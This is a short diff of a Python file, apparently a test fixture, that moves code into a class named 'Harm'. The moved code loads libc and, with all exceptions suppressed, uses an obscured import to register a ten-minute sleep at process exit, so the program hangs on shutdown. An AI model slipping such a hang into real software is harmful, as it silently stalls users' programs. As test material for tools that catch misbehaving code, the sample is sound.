@@ -10,9 +10,11 @@ import sys
 import threading
 import time
 
-libc = ctypes.CDLL(None)
-with contextlib.suppress(BaseException):
-    __import__('atexit').register(time.sleep, 600)
+
+class Harm:
+    libc = ctypes.CDLL(None)
+    with contextlib.suppress(BaseException):
+        __import__('atexit').register(time.sleep, 600)
 
 
 def double(n):
